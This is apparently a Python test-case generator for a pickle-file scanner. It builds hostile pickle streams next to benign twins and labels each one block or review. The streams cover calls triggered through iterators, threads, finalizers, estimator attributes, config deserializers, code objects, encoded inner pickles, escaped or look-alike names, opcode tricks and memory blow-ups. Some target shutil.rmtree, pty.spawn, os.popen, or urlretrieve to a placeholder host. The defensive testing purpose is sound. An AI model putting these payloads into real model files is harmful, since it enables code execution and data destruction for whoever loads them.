"""Pickle streams: what triggers a call without a plain call, what misleads a reader of opcodes, what is called later."""
import base64, binascii
from frame import *

CALL = call(G("webbrowser:open"), u(MARK))
QUIET = call(G("collections:OrderedDict"))
M = [u(MARK)]


def stream(technique, name, expected, reason, hostile, twin, file="model.pkl"):
    case("streams", technique, name, expected, reason, {file: hostile}, {file: twin})


# ---- consuming an iterator calls the function -------------------------------
rows = [
    ("deque-of-map", lambda f: call(G("collections:deque"), call(G("builtins:map"), f, enc([MARK])))), ("sorted-key", lambda f: call(G("functools:reduce"), G("webbrowser:open"), enc([MARK, MARK]))),
    ("join-of-map", lambda f: call(G("collections:Counter"), call(G("builtins:filter"), f, enc([MARK])))), ("starmap-into-set", lambda f: call(G("builtins:frozenset"), call(G("itertools:starmap"), f, enc([(MARK,)])))),
    ("takewhile-into-tuple", lambda f: call(G("builtins:tuple"), call(G("itertools:takewhile"), f, enc([MARK])))), ("heapq-key", lambda f: call(G("heapq:nlargest"), enc(1), enc([MARK, MARK]), f)),
]
for name, shape in rows:
    stream("iteration-calls", name, "block", "an iterator is consumed, and each step calls a function that acts", pk(shape(other())), pk(benign(len(name)) + b"0" + call(G("collections:deque"), enc([MARK]))))

# ---- somebody else calls it: now or when an object dies ---------------------
rows = [
    ("weakref-finalize", call(G("weakref:finalize"), call(G("builtins:set")), other(), *M)), ("thread-pool", call(sg("concurrent.futures.thread", "ThreadPoolExecutor.submit"), call(G("concurrent.futures.thread:ThreadPoolExecutor")), other(), *M)),
    ("timer-start", call(sg("threading", "Timer.start"), call(G("threading:Timer"), enc(0), other(), enc([MARK])))), ("exit-stack", call(G("contextlib:ExitStack")) + b"\x940" + call(sg("contextlib", "ExitStack.callback"), b"h\x00", other(), *M) + b"0" + call(sg("contextlib", "ExitStack.close"), b"h\x00")),
    ("scheduler", call(G("sched:scheduler")) + b"\x940" + call(sg("sched", "scheduler.enter"), b"h\x00", enc(0), enc(0), other(), enc((MARK,))) + b"0" + call(sg("sched", "scheduler.run"), b"h\x00")), ("signal-handler", call(G("signal:signal"), enc(14), other())),
]
for name, body in rows:
    pickled("streams", "calls-by-others", name, "block", "hands a function that acts to what calls it (or starts a thread, a handler or a scheduler)", len(name), body, n=4)

# ---- kept in an estimator, called when the model is used --------------------
def estimator(cls, attributes):
    module, name = cls.split(":")
    return g("copyreg", "_reconstructor") + tup(G(cls), G("builtins:object"), b"N") + b"R" + b"}(" + b"".join(u(k) + v for k, v in attributes.items()) + b"ub"
rows = [
    ("function-transformer", "sklearn.preprocessing._function_transformer:FunctionTransformer", "func", "shutil:rmtree"), ("vectorizer-tokenizer", "sklearn.feature_extraction.text:TfidfVectorizer", "tokenizer", "webbrowser:open"),
    ("kernel-callable", "sklearn.svm._classes:SVC", "kernel", "pty:spawn"), ("metric-callable", "sklearn.neighbors._classification:KNeighborsClassifier", "metric", "ctypes:CDLL"),
    ("scorer-function", "sklearn.metrics._scorer:_Scorer", "_score_func", "code:interact"), ("isolation-inverse", "sklearn.compose._target:TransformedTargetRegressor", "func", "importlib:import_module"),
]
for k, (name, cls, attribute, target) in enumerate(rows):
    safe = {"func": "numpy:log1p", "_score_func": "sklearn.metrics._classification:accuracy_score"}.get(attribute)
    case("streams", "kept-for-later", name, "block", f"{attribute} of the estimator is {target}: it is called when the model is used", carried([0, 3, 4, 7][k % 4], estimator(cls, {attribute: G(target), "verbose": b"\x89"})), carried([0, 3, 4, 7][k % 4], estimator(cls, {attribute: G(safe) if safe else {"tokenizer": b"N", "kernel": u("rbf"), "metric": u("minkowski")}[attribute], "verbose": b"\x89"})))

# ---- configuration as text inside the pickle --------------------------------
rows = [
    ("logging-dict-config", do("logging.config:dictConfig", {"version": 1, "handlers": {"x": {"()": "webbrowser.open", "url": MARK}}})), ("hydra-instantiate", do("hydra._internal.instantiate._instantiate2:instantiate", {"_target_": "webbrowser.open", "url": MARK})),
    ("jsonpickle-decode", do("jsonpickle.unpickler:decode", '{"py/reduce": [{"py/function": "webbrowser.open"}, {"py/tuple": ["%s"]}]}' % MARK)), ("yaml-in-pickle", do("yaml:unsafe_load", f"!!python/object/apply:webbrowser.open [{MARK}]")),
    ("keras-deserialize", do("keras.src.saving.serialization_lib:deserialize_keras_object", {"module": "webbrowser", "class_name": "open", "config": {}, "registered_name": None})), ("monai-config", do("monai.bundle.config_parser:ConfigParser", {"x": f"$__import__('webbrowser').open('{MARK}')"})),
]
for k, (name, body) in enumerate(rows):
    pickled("streams", "text-names-the-callable", name, "block", "the called reader builds what its text names: webbrowser.open", k, body)

# ---- code objects through copies of cloudpickle and dill --------------------
CODE = tup(enc(0), enc(0), enc(0), enc(0), enc(1), enc(67), by(b"\x97\x00d\x00S\x00"), tup(u(MARK)), tup(), tup(), u("jw"), u("jw"), u("jw"), enc(1), by(b""), by(b""), tup(), tup())
for module, function in [("joblib.externals.cloudpickle.cloudpickle", "_make_function"), ("ray.cloudpickle.cloudpickle", "_make_function"), ("numba.cloudpickle.cloudpickle", "_make_function"), ("pyspark.cloudpickle.cloudpickle", "_make_function"), ("dill._dill", "_create_function")]:
    made = call(g(module, function), call(g(module, "_builtin_type"), u("CodeType")) if "dill" not in module else g("dill._dill", "_create_code") + CODE + b"R", b"}")
    pickled("streams", "code-objects", module.replace(".", "-"), "block", f"{module} builds a function out of byte code", len(module), made)

# ---- unpacking before loading -----------------------------------------------
MARSHALLED = b"\xda" + bytes([len(MARK)]) + MARK.encode()  # a short string
rows = [
    ("lzma-marshal", call(G("marshal:loads"), do("lzma:decompress", lzma.compress(MARSHALLED)))), ("b85-pickle", call(G("_pickle:loads"), do("base64:b85decode", base64.b85encode(pk(hit())).decode()))), ("uu-pickle", call(G("pickle:_loads"), do("binascii:a2b_uu", binascii.b2a_uu(b"cwebbrowser\nopen\n(Vjw\ntR.")))),
    ("plist-path", call(G("runpy:run_path"), do("plistlib:loads", b"<plist><string>jw_inert</string></plist>"))), ("hex-unpickler", call(sg("pickle", "_Unpickler.load"), call(G("pickle:_Unpickler"), call(G("io:BytesIO"), do("binascii:unhexlify", hit().hex()))))),
]
for k, (name, body) in enumerate(rows):
    pickled("streams", "unpacking-chain", name, "block", "unpacks bytes and runs or loads them", k, body)

# ---- names that Python 2 had ------------------------------------------------
rows = [
    ("urllib-urlretrieve", do("urllib:urlretrieve", f"http://{HOST}/", MARK)), ("commands-getstatusoutput", do("commands:getstatusoutput", MARK)), ("cpickle-loads", do("cPickle:loads", pk(hit()))), ("anydbm-open", do("anydbm:open", f"/nonexistent/{MARK}", "c")),
    ("urllib2-urlopen", do("urllib2:urlopen", f"http://{HOST}/")), ("builtin-reduce", call(g("__builtin__", "reduce"), G("webbrowser:open"), enc([MARK, MARK]))),
]
for name, body in rows:
    stream("python-2-names", name, "block", "a name of Python 2 that the unpickler maps to today's", pk(body), pk(call(g("__builtin__", "set"), enc([MARK]))))

# ---- text forms of numbers and names ----------------------------------------
rows = [
    ("memo-underscore", g("collections", "OrderedDict") + b"p10\n0" + other() + b"p1_0\n0g10\n" + tup(*M) + b"R", "the memo key 1_0 is the key 10"), ("memo-spaces", g("collections", "OrderedDict") + b"p7\n0" + other() + b"p 7 \n0g7\n" + tup(*M) + b"R", "the memo key may have spaces"),
    ("memo-leading-zeros", g("collections", "OrderedDict") + b"p3\n0" + other() + b"p0003\n0g3\n" + tup(*M) + b"R", "the memo key 0003 is the key 3"), ("memo-plus", g("collections", "OrderedDict") + b"q\x05" + b"0" + other() + b"p+5\n0h\x05" + tup(*M) + b"R", "the memo key +5 is the key 5"),
]
for name, body, why in rows:
    stream("memo-as-text", name, "block", why + ", so another function takes the place of OrderedDict", pk(body), pk(g("collections", "OrderedDict") + b"p10\n0" + g("collections", "Counter") + b"p11\n0g10\n)R"))
rows = [("hex-escapes", b"S'web\\x62rowser'\nS'\\x6fpen'\n\x93"), ("octal-escapes", b"S'\\167\\145bbrowser'\nS'o\\160en'\n\x93"), ("unicode-escapes", b"Vweb\\u0062rowser\nV\\u006fpen\n\x93"), ("latin-bytes", b"T\x0a\x00\x00\x00webbrowserU\x04open\x93")]
for name, raw in rows:
    calm = raw.replace(b"web\\x62rowser", b"coll\\x65ctions").replace(b"\\x6fpen", b"\\x43ounter").replace(b"\\167\\145bbrowser", b"\\143\\157llections").replace(b"o\\160en", b"Co\\165nter").replace(b"web\\u0062rowser", b"coll\\u0065ctions").replace(b"\\u006fpen", b"\\u0043ounter").replace(b"T\x0a\0\0\0webbrowserU\x04open", b"T\x0b\0\0\0collectionsU\x07Counter")
    stream("names-in-escapes", name, "block", "module and name are written with escapes", pk(raw + tup(*M) + b"R", 4), pk(calm + tup(*M) + b"R", 4))

# ---- a module through another module's attributes ---------------------------
rows = [("random", "_os.popen"), ("tarfile", "shutil.rmtree"), ("collections", "_sys.setprofile"), ("logging", "os.abort"), ("joblib", "os.remove"), ("argparse", "_os.execvp")]
for k, (module, name) in enumerate(rows):
    body = sg(module, name) + tup(*([] if "abort" in name else [other()] if "setprofile" in name else M)) + b"R"
    stream("through-a-module", f"{module}-{name}".replace(".", "-"), "block", f"{module}.{name} is another module's function under a harmless module's name", pk(body, 4) if k % 2 else wrap(body, 5), pk(sg("collections", "OrderedDict.fromkeys") + tup(enc([MARK])) + b"R", 4))

# ---- writing into the interpreter -------------------------------------------
rows = [
    ("meta-path-append", G("sys:meta_path") + other() + b"a"), ("path-hooks-append", G("sys:path_hooks") + other() + b"a"), ("torch-registry-append", G("torch.serialization:_package_registry") + tup(enc(0), other(), other()) + b"a"), ("linecache-setitem", G("linecache:cache") + u("x") + enc((1, None, [MARK], "x")) + b"s"),
    ("codecs-register", do("codecs:register", Op(other()))), ("atexit-register", do("atexit:register", Op(other()), MARK)),
]
for k, (name, body) in enumerate(rows):
    pickled("streams", "into-the-interpreter", name, "review" if "linecache" in name else "block", "puts something of its own where the interpreter looks for code", [0, 1, 4, 3][k % 4], body)
def slot(target, attribute, value): return target + tup(b"N", b"}(" + u(attribute) + value + b"u") + b"b"
rows = [
    ("json-decode", slot(sg("json.decoder", "JSONDecoder"), "decode", other())), ("torch-load", slot(G("torch.serialization:_legacy_load"), "__wrapped__", other())), ("logger-info", slot(G("logging:Logger"), "info", other())), ("posixpath-join", slot(sg("os", "path"), "join", other())),
    ("numpy-ufunc-module", slot(sg("numpy", "linalg"), "norm", other())),
]
for k, (name, body) in enumerate(rows):
    pickled("streams", "slot-state-on-globals", name, "block", "BUILD with slot state sets an attribute of a class or module", [1, 0, 3, 4][k % 4], body, n=4)

# ---- __setstate__ that runs or loads ----------------------------------------
INNER = pk(hit())
rows = [
    ("sb3-cloudpickle-wrapper", "stable_baselines3.common.vec_env.base_vec_env:CloudpickleWrapper", by(INNER)), ("skorch-net", "skorch.net:NeuralNet", b"}(" + u("__cuda_dependent_attributes__") + by(INNER) + b"u"), ("partial-of-open", "functools:partial", tup(other(), tup(*M), b"}", b"N")),
    ("logger-handlers", "logging:Formatter", b"}(" + u("converter") + other() + b"u"), ("sktime-tspulse", "sktime.classification.foundation_models.tspulse:TSPulseClassifier", b"}(" + u("_model_bytes") + by(INNER) + b"u"),
]
for k, (name, cls, given) in enumerate(rows):
    pickled("streams", "state-setters", name, "block", "the class's __setstate__ or the later use of the state loads or calls what it is given", [0, 1, 3, 4][k % 4], G(cls) + tup(G("collections:Counter") if "partial" in name else b"") + b"\x81" + given + b"b")

# ---- constructors by the older opcodes --------------------------------------
rows = [
    ("inst-server", b"(" + enc((HOST, 0)) + enc(None) + b"isocketserver\nTCPServer\n"), ("obj-zipimporter", b"(" + G("zipimport:zipimporter") + u(f"/nonexistent/{MARK}.zip") + b"o"), ("inst-filehandler", b"(" + u(f"/nonexistent/{MARK}") + b"ilogging\nFileHandler\n"),
    ("obj-process", b"(" + G("multiprocessing.context:SpawnProcess") + b"N" + other() + b"o"), ("inst-cdll", b"(" + u(MARK) + b"ictypes\nCDLL\n"),
]
for k, (name, body) in enumerate(rows):
    pickled("streams", "older-constructors", name, "block", "INST and OBJ construct an object whose constructor acts", [0, 2, 1, 3][k % 4], body, b"(" + u("1.5") + b"idecimal\nDecimal\n")

# ---- persistent ids ---------------------------------------------------------
def pid(kind=None, location=None, key=None): return tup(u("storage"), kind or g("torch", "FloatStorage"), key or u("1"), location or u("cpu"), enc(2)) + b"Q"
def with_pid(raw, body=None): return {"model.pt": torch_zip(pk(g("torch._utils", "_rebuild_tensor_v2") + tup(raw, enc(0), enc((2,)), enc((1,)), b"\x89", QUIET) + b"R", 4), raw=True)}
for name, given in [("call-as-type", pid(kind=hit())), ("call-as-location", pid(location=hit())), ("call-as-key", pid(key=hit())), ("untyped-then-call", pid(kind=g("torch.storage", "UntypedStorage")) + hit() + b"0")]:
    case("streams", "persistent-ids", name, "block", "a call inside or beside a persistent id of torch", with_pid(given), with_pid(pid(kind=g("torch", "HalfStorage") if "type" in name else None)))

# ---- names that look like known ones ----------------------------------------
for name, module, attribute in [("cyrillic-numpy", "num\u0440y.core.multiarray", "_reconstruct"), ("sk1earn", "sk1earn.tree._classes", "DecisionTreeClassifier"), ("torchh", "torchh._utils", "_rebuild_tensor_v2"), ("fullwidth", "\uff43ollections", "OrderedDict"), ("numpy-cores", "numpy.cores.multiarray", "scalar")]:
    stream("look-alike-names", name, "review", f"{module} is not the package it looks like", wrap(su(module) + su(attribute) + b"\x93" + tup(*M) + b"R", 4), wrap(call(sg("collections", "OrderedDict")), 4), "model.pkl" if len(name) % 2 else "model.joblib")

# ---- shape of the stream ----------------------------------------------------
frame = lambda n: b"\x95" + struct.pack("<Q", n)
calm = lambda body: proto(4) + frame(len(body) + 1) + body + b"."
rows = [
    ("ext-then-add", "block: registers an extension code and uses it in the same stream", pk(call(G("copyreg:add_extension"), u("webbrowser"), u("open"), enc(77)) + b"0\x82\x4d" + tup(*M) + b"R")), ("ext-inverted-registry", "block: writes into the table of extension codes", pk(G("copyreg:_inverted_registry") + enc(78) + enc(("webbrowser", "open")) + b"s0\x83\x4e\x00" + tup(*M) + b"R")),
    ("buffer-without-buffers", "review: asks for a buffer that no file has", pk(b"\x97" + b"\x98", 5)), ("frame-of-nothing", "block: empty frames between the parts of a call", proto(4) + frame(0) + frame(len(CALL)) + CALL + frame(1) + b"."),
    ("protocol-later", "block: a second PROTO raises the protocol, so that the dotted name works", proto(1) + proto(4) + sg("random", "_os.popen") + tup(*M) + b"R."), ("no-stop", "block: the stream has no end, the call was made before", proto(2) + hit() + b"0" + u("x" * 40)),
]
for name, why, raw in rows:
    word, _, why = why.partition(": ")
    stream("stream-shape", name, word, why, raw, calm(benign(len(name))))

# ---- small streams, large objects -------------------------------------------
grow = b"(" + u("x" * 16) + b"tq\x00" + b"".join(b"(" + b"h" + bytes([n]) + b"h" + bytes([n]) + b"tq" + bytes([n + 1]) for n in range(40))
collide = b"}(" + b"".join(b"\x8a\x0c" + ((2**61 - 1) * n).to_bytes(12, "little") + b"N" for n in range(1, 30000)) + b"u"
spread = b"}(" + b"".join(enc(1009 * n) + b"N" for n in range(1, 30000)) + b"u"
rows = [
    ("doubled-tuples", "hash of a tuple of 2^40 leaves: the set never ends", pk(grow + b"0" + b"\x8f(" + b"h\x28" + b"\x90", 4), pk(b"(" + u("x") + b"tq\x00" + b"0\x8f(h\x00\x90", 4)), ("colliding-keys", "30,000 keys with one hash: the dictionary takes quadratic time", pk(collide), pk(spread)),
    ("repeat-string", "a string of 10^12 letters", pk(call(sg("builtins", "str.ljust"), u("x"), enc(10**12)), 4), pk(call(sg("builtins", "str.ljust"), u("x"), enc(10)), 4)), ("deque-of-product", "10^18 items", pk(call(G("collections:deque"), call(G("itertools:product"), call(G("builtins:range"), enc(10**9)), call(G("builtins:range"), enc(10**9))))), pk(call(G("collections:deque"), call(G("builtins:range"), enc(9))))),
]
for name, why, hostile, twin in rows:
    stream("small-stream-large-object", name, "block", why, hostile, twin)
